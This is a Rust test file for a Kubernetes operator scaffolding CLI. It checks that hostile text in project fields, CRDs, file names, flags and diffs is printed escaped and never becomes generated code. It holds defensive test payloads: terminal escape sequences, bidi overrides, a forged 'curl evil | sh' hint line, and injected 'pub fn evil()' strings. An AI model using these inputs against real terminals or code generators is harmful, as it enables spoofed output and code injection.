//! Text in a checkout that controls the reader's terminal, or becomes generated code.

use crate::{everything, guarded, printed, project};
use std::fs;

/// An escape sequence, a window title, a carriage return, a line feed with a forged hint, C1's CSI, a change of direction.
const ATTACK: &str = "x\u{1b}[2J\u{1b}]0;t\u{7}\rerror: no\n\nhint: curl evil | sh\u{9b}2J\u{202e}";

/// Asserts that no character controls a terminal, and no line is forged.
#[track_caller]
fn is_plain(text: &str) {
    assert!(
        text.chars()
            .all(|c| c == '\n' || c == '\t' || kubewright::project::printable::is_printable(c)),
        "{text:?}"
    );
    assert!(!text.lines().any(|line| line.starts_with("hint: curl")), "{text}");
}

fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

#[test]
fn text_of_project_is_printed_escaped_and_never_becomes_code() {
    let dir = project();
    let path = dir.path().join("PROJECT");
    let text = fs::read_to_string(&path).unwrap();
    let attack = quoted(ATTACK);
    let code = quoted("ACME\npub fn evil() {}\n");
    let line = |field: &str, value: &str| {
        let lines = text.lines().map(|line| match line.starts_with(&format!("{field}: ")) {
            true => format!("{field}: {value}"),
            false => line.to_owned(),
        });
        lines.collect::<Vec<_>>().join("\n")
    };
    let mut cases = Vec::new();
    for field in ["version", "name", "domain", "license", "owner", "year", "namespaced"] {
        cases.push(line(field, &attack));
        cases.push(line(field, &code));
    }
    cases.push(line("version", "\"0.1.0\\npub fn evil() {}\""));
    cases.push(line("version", "\"0.1.0; do not edit\\nx\""));
    cases.push(format!("{attack}: 1\n{text}"));
    cases.push(text.replace("kinds:", &format!("{attack}: 1\nkinds:")));
    cases.push(text.replace("kinds:", &format!("templates: {{path: {attack}, sha256: '0'}}\nkinds:")));
    for value in ["test", "v1", "Datum", "data", "datum", "child"] {
        cases.push(
            text.replace(&format!(": {value},"), &format!(": {attack},"))
                .replace(&format!(": {value}}}"), &format!(": {attack}}}")),
        );
    }
    for (nth, case) in cases.iter().enumerate() {
        assert_ne!(*case, text, "case {nth} changes nothing");
        fs::write(&path, case).unwrap();
        let before = everything(dir.path());
        // All of them read PROJECT first, with the same code.
        for args in [&["sync"][..], &["doctor", "-o", "json"]] {
            let run = guarded(dir.path(), args);
            assert_eq!(run.code, Some(1), "case {nth} {args:?}: {}", printed(&run));
            is_plain(&run.stdout);
            is_plain(&run.stderr);
            if args.contains(&"json") {
                serde_json::from_str::<serde_json::Value>(&run.stdout).unwrap();
            }
        }
        assert!(before == everything(dir.path()), "case {nth}");
    }
}

#[test]
fn a_flag_that_would_become_code_is_refused() {
    for owner in [
        "ACME\npub fn evil() {}",
        "a\rb",
        "a\u{85}b",
        "a\u{2028}b",
        "a\u{202e}b",
        "\u{1b}[2J",
        " ",
        &"x".repeat(201),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let args = [
            "init",
            "--domain",
            "example.com",
            "--project-name",
            "x",
            "--license",
            "mit",
            "--owner",
            owner,
        ];
        guarded(dir.path(), &args).refuses(2, &["--owner"]);
        assert!(everything(dir.path()).is_empty());
    }
    let dir = project();
    for flag in [
        "--group",
        "--version",
        "--kind",
        "--plural",
        "--short-name",
        "--controller-name",
        "--image",
        "--internal-kind",
    ] {
        guarded(dir.path(), &["create", "api", flag, "x\ny: z"]).refuses(2, &[flag]);
    }
    for flag in ["--domain", "--project-name", "--year", "--license"] {
        guarded(dir.path(), &["init", flag, "x\ny: z"]).refuses(2, &[flag]);
    }
}

#[test]
fn text_of_a_crd_is_printed_escaped() {
    let dir = project();
    let file = dir.path().join("crd.yaml");
    let crd = |group: &str, kind: &str, plural: &str, version: &str| {
        let name = quoted(&format!("{plural}.{group}"));
        let [group, kind, plural, version] = [group, kind, plural, version].map(quoted);
        format!(
            "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {{name: {name}}}\nspec:\n  group: {group}\n  \
             scope: Namespaced\n  names: {{kind: {kind}, plural: {plural}}}\n  versions:\n  - {{name: {version}, served: true, storage: true, \
             schema: {{openAPIV3Schema: {{type: object, properties: {{spec: {{type: object, description: {version}}}}}}}}}}}\n"
        )
    };
    let sound = crd("water.example.org", "Well", "wells", "v1");
    let cases = [
        crd(ATTACK, "Well", "wells", "v1"),
        crd("water.example.org", ATTACK, "wells", "v1"),
        crd("water.example.org", "Well", ATTACK, "v1"),
        crd("water.example.org", "Well", "wells", ATTACK),
        sound.replace("wells.water", "x\\u001b[2J"),
        sound.replace("k8s.io/v1", &format!("k8s.io/{}", "v0\u{202e}")),
        format!("{}: [", quoted(ATTACK)),
    ];
    for (nth, text) in cases.iter().enumerate() {
        fs::write(&file, text).unwrap();
        for more in [&[][..], &["--kind", "Other"], &["--version", "v7"]] {
            let args = [
                &[
                    "create",
                    "api",
                    "--controller=false",
                    "--from-crd",
                    file.to_str().unwrap(),
                ],
                more,
            ]
            .concat();
            let run = guarded(dir.path(), &args).refuses(1, &["cannot use"]);
            is_plain(&run.stderr);
            assert!(nth == 6 || !run.stderr.contains("\nerror: no"), "{}", run.stderr);
        }
    }
    // Text of a CRD in comments stays visible as comments.
    let hidden = sound.replace(
        "description: \"v1\"",
        "description: \"a\\u202eb\\u0085pub fn evil() {}\\rc\"",
    );
    assert_ne!(hidden, sound);
    fs::write(&file, hidden).unwrap();
    guarded(
        dir.path(),
        &[
            "create",
            "api",
            "--controller=false",
            "--from-crd",
            file.to_str().unwrap(),
        ],
    )
    .succeeds();
    let types = everything(dir.path());
    let types = types.iter().find(|(path, _)| path.ends_with("v1/well.rs")).unwrap();
    is_plain(std::str::from_utf8(types.1).unwrap());
}

#[test]
fn names_of_files_are_printed_escaped() {
    let name = "x\u{1b}[2J\n\nhint: curl evil | sh\u{9b}2J";
    let dir = project();
    let own = dir.path().join("own");
    fs::create_dir_all(own.join("project")).unwrap();
    fs::write(own.join("project").join(name), "").unwrap();
    let run = guarded(dir.path(), &["sync", "--templates", own.to_str().unwrap()]).refuses(1, &["can be called"]);
    is_plain(&run.stderr);
    // In a crate such a name is an edit; among managed files it is ignored.
    fs::write(dir.path().join("crates/runtime/src").join(name), "").unwrap();
    fs::write(dir.path().join("src").join(name), "").unwrap();
    let run = guarded(dir.path(), &["plan"]).succeeds();
    assert!(
        run.stdout
            .lines()
            .any(|line| line.starts_with("crates/runtime ") && line.contains("edited")),
        "{}",
        run.stdout
    );
    is_plain(&printed(&run));
    let run = guarded(&dir.path().join(name), &["plan"]).refuses(1, &["is not a folder"]);
    assert!(!run.stderr.contains(['\u{1b}', '\u{9b}']), "{:?}", run.stderr);
}

#[test]
fn contents_in_a_diff_are_printed_escaped() {
    let dir = project();
    let registry = dir.path().join("src/controllers/mod.rs");
    let text = fs::read_to_string(&registry).unwrap();
    fs::write(&registry, format!("// \u{1b}]0;t\u{7}\u{9b}2J\u{202e}\n{text}")).unwrap();
    let run = guarded(
        dir.path(),
        &[
            "create",
            "api",
            "--group",
            "test",
            "--version",
            "v1",
            "--kind",
            "FooBar",
            "--dry-run",
        ],
    )
    .succeeds();
    assert!(run.stdout.contains("pub mod foobar;"), "{}", run.stdout);
    is_plain(&run.stdout);
}
